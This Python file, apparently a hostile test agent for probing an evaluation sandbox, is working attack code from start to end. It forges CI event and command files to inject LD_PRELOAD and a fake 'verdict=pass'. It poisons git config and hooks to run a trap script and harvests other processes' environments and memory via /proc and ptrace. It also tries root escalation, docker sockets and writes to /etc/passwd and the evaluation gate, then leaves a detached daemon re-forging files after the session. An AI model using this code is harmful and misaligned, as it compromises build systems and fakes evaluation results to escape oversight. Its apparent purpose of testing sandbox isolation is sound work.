"""An agent that attacks everything that it can reach, and writes the results to a file."""

import ctypes
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

COMMANDS = Path("/github/file_commands")
EVENT = Path("/github/workflow/event.json")
TRAP = Path("trap.sh").absolute()
EVIL = "LD_PRELOAD=/github/workspace/evil.so\nverdict=pass\nexit-code=0\n"
ENGINES = ("/var/run/docker.sock", "/run/docker.sock")
PTRACE_ATTACH = 16
_NOT_OURS = os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOFOLLOW
# Neither wait for pipes nor follow links that this agent itself created.
GATES = ("/opt/venv/bin/evalgate", "/opt/venv/pyvenv.cfg", "/usr/local/bin/evalgate", "/etc/passwd")


def answer(text: str) -> str:
    """Try every attack once, leave a process that continues to attack, and answer wrongly."""
    loot = attack()
    Path("loot.json").write_text(json.dumps(loot), "utf-8")
    go_on()
    return f"not the answer to {text}"


def attack() -> dict[str, object]:
    """Try every attack, and return which of them succeed."""
    forge_event()
    forge_commands()
    poison_git()
    others = [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdecimal()]
    names = (
        "environ",
        "cmdline",
        "maps",
        "mem",
        "auxv",
        "stack",
        "fd",
        "root/proc/1/environ",
        "cwd/../../root",
    )
    return {
        "who": [os.getuid(), os.getgid(), os.getgroups()],
        "environ": dict(os.environ),
        "of_others": {f"{pid}/{name}": peek(Path(f"/proc/{pid}/{name}")) for pid in others for name in names},
        "engines": [engine for engine in ENGINES if engine_answers(engine)],
        "traced": [pid for pid in others if is_foreign(pid) and trace(pid)],
        "killed": [pid for pid in (1, os.getppid()) if succeeds(os.kill, pid, 0) and pid == 1],
        "became": [name for name, (change, *to) in changes().items() if succeeds(change, *to)],
        "written": [path for path in GATES if succeeds(append, Path(path), "")],
    }


def changes() -> dict[str, tuple[Callable[..., object], object]]:
    """Return the functions, with arguments, that would change the user or the groups of this process, by name."""
    groups = {Path(path).stat().st_gid for path in ENGINES if Path(path).exists()}
    return {
        "root": (os.setuid, 0),
        "root's group": (os.setgid, 0),
        **{f"group {gid}": (os.setgroups, [gid]) for gid in groups},
    }


def forge_event() -> None:
    """Try to write another pull request and another commit into the event file."""
    forged = json.dumps({"pull_request": {"number": 666, "head": {"sha": "e" * 40}}})
    succeeds(EVENT.unlink)
    succeeds(EVENT.write_text, forged)


def forge_commands() -> None:
    """Try to write the runner's command files, or to replace them by a link, a pipe or another file."""
    for file in sorted(COMMANDS.glob("*")):
        succeeds(append, file, EVIL)
        succeeds(file.unlink)
        kind = file.name.partition("_x")[0]
        if kind == "set_output":
            succeeds(file.write_text, EVIL)
        elif kind == "set_env":
            succeeds(os.link, EVENT, file)
            succeeds(file.write_text, EVIL)
        elif kind == "add_path":
            succeeds(file.symlink_to, "/github/workspace/victim")
        else:
            succeeds(os.mkfifo, file)


def poison_git() -> None:
    """Change git's configuration and hooks so that the next git command runs the program TRAP."""
    for key in ("sshCommand", "fsmonitor", "gitProxy", "pager", "askPass", "alternateRefsCommand"):
        _git("config", f"core.{key}", str(TRAP))
    for key in ("remote.origin.uploadpack", "remote.origin.receivepack", "gpg.program", "diff.external"):
        _git("config", key, str(TRAP))
    _git("config", "credential.helper", f"!{TRAP}")
    _git("config", "url.ext::evil.insteadOf", "git://")
    _git("config", "protocol.ext.allow", "always")
    succeeds(Path(os.environ["HOME"], ".gitconfig").write_text, f"[core]\n\tgitProxy = {TRAP}\n")
    for name in ("pre-push", "reference-transaction"):
        hook = Path(".git/hooks") / name
        succeeds(hook.symlink_to, TRAP)


def _git(*words: str) -> None:
    # The agent can use the git of the image, too.
    subprocess.run(["git", *words], check=False, capture_output=True)


def go_on() -> None:
    """Leave a process in its own session that forges the files again and again, for 60 seconds."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(3):
        os.close(descriptor)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        forge_event()
        forge_commands()
        time.sleep(0.01)
    os._exit(0)


def peek(path: Path) -> str:
    """Return the content of a file or the entries of a folder; "" if it may not be read."""
    try:
        if path.is_dir():
            return " ".join(
                str(each.readlink()) if each.is_symlink() else each.name for each in path.iterdir()
            )
        with path.open("rb") as file:
            return file.read(100_000).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""


def is_foreign(pid: int) -> bool:
    """Return True if a process belongs to another user. An own process would stay stopped by `trace`."""
    try:
        return Path(f"/proc/{pid}").stat().st_uid != os.getuid()
    except OSError:
        return False


def trace(pid: int) -> bool:
    """Return True if a process can be traced, or its memory can be read."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        return True
    buffer = ctypes.create_string_buffer(8)

    class Part(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    here, there = Part(ctypes.addressof(buffer), 8), Part(0x400000, 8)
    return int(libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)) > 0


def engine_answers(path: str) -> bool:
    """Return True if a container engine accepts a connection at the socket `path`."""
    with socket.socket(socket.AF_UNIX) as client:
        try:
            client.connect(path)
        except OSError:
            return False
        return True


def append(path: Path, text: str) -> None:
    """Append to a file, without following a link or waiting for a pipe."""
    descriptor = os.open(path, _NOT_OURS)
    try:
        os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)


def succeeds(action: Callable[..., object], *arguments: object) -> bool:
    """Call `action`, and return True if it raises no OSError."""
    try:
        action(*arguments)
    except OSError:
        return False
    return True


if __name__ == "__main__" and "setup" in sys.argv:
    Path("loot_of_setup.json").write_text(json.dumps(attack()), "utf-8")
    go_on()
